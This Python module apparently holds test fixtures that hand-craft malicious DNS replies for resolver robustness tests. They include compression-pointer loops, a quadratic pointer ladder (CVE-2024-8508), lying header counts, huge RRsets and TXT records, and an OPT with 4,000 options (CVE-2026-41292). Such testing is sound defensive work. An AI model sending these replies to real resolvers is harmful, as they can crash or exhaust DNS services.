"""Replies that no honest program writes: octets by hand."""

from collections.abc import Callable

_FLAGS = b"\x84\x00"


def _head(query: bytes, answers: int = 0, authorities: int = 0, additionals: int = 0) -> bytes:
    """Return header and question of a reply."""
    end = query.index(0, 12) + 5
    counts = b"".join(n.to_bytes(2, "big") for n in (1, answers, authorities, additionals))
    return query[:2] + _FLAGS + counts + query[12:end]


def _record(owner: bytes, rrtype: int, rdata: bytes, ttl_s: int = 300) -> bytes:
    return (
        owner
        + rrtype.to_bytes(2, "big")
        + b"\0\1"
        + ttl_s.to_bytes(4, "big")
        + len(rdata).to_bytes(2, "big")
        + rdata
    )


def pointer_loop(query: bytes) -> bytes:
    """The owner of the answer points at itself."""
    head = _head(query, 1)
    return head + _record(_pointer(len(head)), 1, b"\xc0\0\2\1")


def pointer_forwards(query: bytes) -> bytes:
    """The owner of the answer points behind itself."""
    head = _head(query, 1)
    return head + _record(_pointer(len(head) + 16), 1, b"\xc0\0\2\1")


def pointer_ladder(query: bytes) -> bytes:
    """Each of many names is one label and a pointer to the name before: reading all of them costs
    the square of their number (CVE-2024-8508)."""
    body, count = _head(query, 1000), 1000
    last = 12
    for _ in range(count):
        place = len(body)
        owner = b"\1a" + _pointer(last)
        body += _record(owner, 1, b"\xc0\0\2\1")
        last = place if place < 0x3FFF else last
    return body


def long_name_many_times(query: bytes) -> bytes:
    """A name of 255 octets once, and as many pointers to it as a message takes."""
    label = b"\x3f" + b"x" * 63
    name = label * 3 + b"\x3d" + b"y" * 61 + b"\0"
    head = _head(query, 5000)
    body = [head, _record(name, 1, b"\xc0\0\2\1")]
    pointer = _pointer(len(head))
    body += [_record(pointer, 2, pointer) for _ in range(4600)]
    return b"".join(body)


def counts_lie(query: bytes) -> bytes:
    """The header speaks of 65,535 records in each section; there are none."""
    head = _head(query)
    return head[:6] + b"\xff" * 6 + head[12:]


def many_addresses(query: bytes) -> bytes:
    """An RRset of 4,000 addresses."""
    rdatas = [(0xC6120000 + n).to_bytes(4, "big") for n in range(4000)]
    return _head(query, 4000) + b"".join(_record(b"\xc0\x0c", 1, rdata) for rdata in rdatas)


def many_types(query: bytes) -> bytes:
    """One name with 400 types."""
    records = [_record(b"\xc0\x0c", 1, b"\xc0\0\2\1")]
    records += [_record(b"\xc0\x0c", 1000 + n, b"x") for n in range(400)]
    return _head(query, len(records)) + b"".join(records)


def a_huge_text(query: bytes) -> bytes:
    """One TXT record of 60,000 octets."""
    return _head(query, 1) + _record(b"\xc0\x0c", 16, (b"\xff" + b"t" * 255) * 234)


def many_options(query: bytes) -> bytes:
    """An OPT with 4,000 options (CVE-2026-41292)."""
    options = b"\xfd\xe9\0\0" * 4000
    opt = b"\0\0\x29\x04\xd0\0\0\0\0" + len(options).to_bytes(2, "big") + options
    return _head(query, 1, 0, 1) + _record(b"\xc0\x0c", 1, b"\xc0\0\2\1") + opt


def two_opts(query: bytes) -> bytes:
    """Two OPT records (RFC 6891 section 6.1.1 has one)."""
    opt = b"\0\0\x29\x04\xd0\0\0\0\0\0\0"
    return _head(query, 1, 0, 2) + _record(b"\xc0\x0c", 1, b"\xc0\0\2\1") + opt * 2


def wrong_rdata_size(query: bytes) -> bytes:
    """An A record of five octets."""
    return _head(query, 1) + _record(b"\xc0\x0c", 1, b"\xc0\0\2\1\0")


def sign_bit_ttl(query: bytes) -> bytes:
    """A TTL with its first bit set is 0 (RFC 2181 section 8)."""
    return _head(query, 1) + _record(b"\xc0\x0c", 1, b"\xc0\0\2\1", 0x80000E10)


def _pointer(offset: int) -> bytes:
    return (0xC000 | offset).to_bytes(2, "big")


MALICE: dict[str, Callable[[bytes], bytes]] = {
    function.__name__.replace("_", "-"): function
    for function in (
        pointer_loop, pointer_forwards, pointer_ladder, long_name_many_times, counts_lie,
        many_addresses, many_types, a_huge_text, many_options, two_opts, wrong_rdata_size,
        sign_bit_ttl,
    )
}  # fmt: skip
